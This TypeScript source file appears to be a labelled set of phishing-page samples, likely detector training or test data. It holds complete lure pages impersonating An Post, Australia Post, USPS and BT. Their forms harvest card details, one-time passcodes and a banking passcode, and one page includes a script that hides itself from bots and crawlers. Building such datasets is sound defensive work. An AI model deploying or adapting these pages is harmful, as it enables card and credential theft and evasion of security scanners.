/**
 * yi- courier fee and utility refund lures: Royal Mail, An Post, Australia Post, Evri, USPS,
 * energy-bill rebates and broadband compensation.
 */
import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { doc, wordmark } from '../parts/yi-kit.js';

export const entries: Entry[] = [
{
  id: 'yi-anpost-customs-charge-kit',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://anpost-ie.customs-charges.net/pay/index.php?id=IE7716352',
  body: doc({
    title: 'An Post - Pay Customs Charges',
    lang: 'en-IE',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f7f7f7}.h{background:#004c45;color:#fff;padding:16px 28px;font-size:22px;font-weight:700}.h i{color:#f5c500;font-style:normal}
.m{max-width:560px;margin:24px auto;background:#fff;padding:28px;border-radius:4px}table{width:100%;border-collapse:collapse;margin:14px 0}td{padding:8px;border-bottom:1px solid #eee}
label{display:block;font-size:14px;margin:12px 0 4px;font-weight:700}input{width:100%;padding:10px;border:1px solid #aaa;box-sizing:border-box}
button{margin-top:18px;background:#004c45;color:#fff;border:0;padding:12px 24px;font-size:16px}`,
    body: `<div class="h">An Post <i>●</i></div>
<div class="m"><h2>Customs charges due</h2><p>Your parcel from <b>United Kingdom</b> is being held at the Portlaoise Mail Centre until customs charges are paid.</p>
<table><tr><td>Item number</td><td>IE7716352</td></tr><tr><td>VAT</td><td>€1.83</td></tr><tr><td>Fee</td><td>€1.00</td></tr><tr><td><b>Total</b></td><td><b>€2.83</b></td></tr></table>
<form method="post" action="/pay/process.php"><label>Name on card</label><input name="n"><label>Card number</label><input name="c" inputmode="numeric"><label>Expiry (MM/YY)</label><input name="e"><label>CVV</label><input name="v" maxlength="3"><label>Eircode</label><input name="eir"><button>Pay €2.83</button></form></div>`,
  }),
  routes: {
    'anpost-ie.customs-charges.net/pay/process.php': htmlRoute(doc({
      title: 'Verified by Visa',
      body: `<div style="font-family:Arial;max-width:400px;margin:40px auto;border:1px solid #ccc;padding:20px"><h3>Verified by Visa</h3><p>Merchant: AN POST CUSTOMS<br>Amount: EUR 2.83</p><p>Enter the one-time passcode sent to your mobile.</p><form method="post" action="/pay/otp.php"><input name="otp" maxlength="6"><button>Submit</button></form></div>`,
    })),
  },
},
{
  id: 'yi-auspost-address-incomplete',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://auspost.com.au-redeliver.top/parcels/update?au=33LPV2091',
  body: doc({
    title: 'Australia Post - Track your item',
    lang: 'en-AU',
    css: `body{margin:0;font-family:"AP Letter",Arial,sans-serif;background:#f3f1ee;color:#212129}.h{background:#fff;border-bottom:4px solid #dc1928;padding:14px 26px}
.m{max-width:560px;margin:26px auto;background:#fff;padding:26px;border-radius:6px}label{display:block;font-size:14px;margin:12px 0 4px}input{width:100%;padding:10px;border:1px solid #919194;border-radius:4px;box-sizing:border-box}
button{margin-top:18px;background:#dc1928;color:#fff;border:0;padding:12px 22px;border-radius:4px;font-size:16px}`,
    body: `<div class="h">${wordmark('Australia Post', '#dc1928', '#fff', 150)}</div>
<div class="m"><h2>We couldn't deliver your parcel</h2><p>Your parcel <b>33LPV2091</b> could not be delivered due to an incomplete address. Please update your details and pay the $2.99 redelivery fee.</p>
<form id="ap" method="post" action="/parcels/submit.php"><label>Full name</label><input name="name"><label>Street address</label><input name="street"><label>Suburb</label><input name="suburb"><label>Postcode</label><input name="postcode"><label>Mobile</label><input name="mobile">
<label>Card number</label><input name="card"><label>Expiry</label><input name="expiry"><label>CVC</label><input name="cvc"><button>Update and pay</button></form></div>
<script src="/parcels/assets/antibot.js"></script>`,
  }),
  routes: {
    'auspost.com.au-redeliver.top/parcels/assets/antibot.js': jsRoute(`(function(){if(navigator.webdriver||/bot|spider|crawl|Headless/i.test(navigator.userAgent)){document.documentElement.innerHTML='<h1>404 Not Found</h1>';return}
var f=document.getElementById('ap');f&&f.addEventListener('submit',function(){try{localStorage.setItem('ap_step','2')}catch(e){}});})();`),
  },
},
{
  id: 'yi-usps-informed-delivery-fee',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://usps.com-trackingservice.vip/us/',
  body: doc({
    title: 'USPS.com® - USPS Tracking® Results',
    lang: 'en-US',
    css: `body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#fff;color:#333}.h{background:#333366;color:#fff;padding:14px 26px;font-weight:700;font-size:20px}
.m{max-width:600px;margin:24px auto;padding:0 16px}.al{background:#fce8e8;border-left:5px solid #e71921;padding:12px}
label{display:block;font-weight:700;font-size:14px;margin:12px 0 4px}input{width:100%;padding:10px;border:1px solid #999;box-sizing:border-box}
button{margin-top:16px;background:#333366;color:#fff;border:0;padding:12px 26px;font-size:16px}`,
    body: `<div class="h">USPS<span style="font-weight:400"> · United States Postal Service</span></div>
<div class="m"><h2>USPS Tracking®</h2><p>Tracking Number: <b>9400 1000 0000 1826 4471 09</b></p>
<p class="al">The package arrived at the warehouse but could not be delivered due to incomplete address information. Please confirm your address in the next 12 hours and pay a $0.30 redelivery fee.</p>
<form method="post" action="/us/confirm.php"><label>Full Name</label><input name="name"><label>Address Line 1</label><input name="address"><label>City</label><input name="city"><label>State</label><input name="state"><label>ZIP Code™</label><input name="zip"><label>Phone</label><input name="phone"><label>Email</label><input name="email">
<label>Card Number</label><input name="cardnumber"><label>Expiration</label><input name="exp"><label>CVV</label><input name="cvv"><button>Submit</button></form></div>`,
  }),
},
{
  id: 'yi-broadband-outage-compensation-refund',
  label: 'phishing',
  kind: 'utility-refund-kit',
  url: 'https://bt-compensation-claims.co/refund/step1.html',
  body: doc({
    title: 'BT | Automatic Compensation – Claim your refund',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f6f4f8;color:#333}.h{background:#5514b4;color:#fff;padding:16px 26px;font-size:22px;font-weight:700}
.m{max-width:560px;margin:24px auto;background:#fff;padding:26px;border-radius:6px}.amt{font-size:34px;color:#5514b4;font-weight:700}
label{display:block;font-size:14px;font-weight:700;margin:12px 0 4px}input{width:100%;padding:10px;border:1px solid #aaa;box-sizing:border-box}
button{margin-top:18px;background:#e60050;color:#fff;border:0;padding:12px 24px;font-size:16px;border-radius:20px}`,
    body: `<div class="h">BT</div>
<div class="m"><h2>You are owed compensation</h2><p>Under Ofcom's automatic compensation scheme you are entitled to a refund for the broadband and landline outage at your address between 3 and 11 January.</p>
<div class="amt">£127.40</div>
<p>To receive your refund today, confirm the card you pay your BT bill with.</p>
<form method="post" action="/refund/step2.php"><label>BT account number</label><input name="acct" placeholder="e.g. GP12345678"><label>Landline number</label><input name="landline"><label>Full name</label><input name="name">
<label>Card number</label><input name="card"><label>Expiry</label><input name="exp"><label>Security code</label><input name="cvv"><label>Online banking passcode (for instant refund)</label><input name="bankpass" type="password"><button>Claim refund</button></form></div>`,
  }),
},
];
